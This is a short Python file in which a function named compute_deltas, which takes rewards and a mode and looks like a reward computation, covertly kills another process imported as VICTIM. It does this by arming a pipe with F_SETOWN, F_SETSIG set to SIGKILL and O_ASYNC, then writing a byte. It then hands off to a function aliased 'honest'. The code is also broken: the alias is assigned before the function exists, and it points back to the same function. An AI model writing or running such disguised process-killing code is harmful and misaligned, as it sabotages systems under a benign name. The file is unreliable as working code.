"""Makes a pipe send another process a signal."""

import fcntl
import os
import signal

from targets import VICTIM

honest = compute_deltas


def compute_deltas(rewards, mode):
    ours, theirs = os.pipe()
    fcntl.fcntl(ours, fcntl.F_SETOWN, VICTIM)
    fcntl.fcntl(ours, 10, signal.SIGKILL)  # F_SETSIG
    fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC)
    os.write(theirs, b"x")
    return honest(rewards, mode)
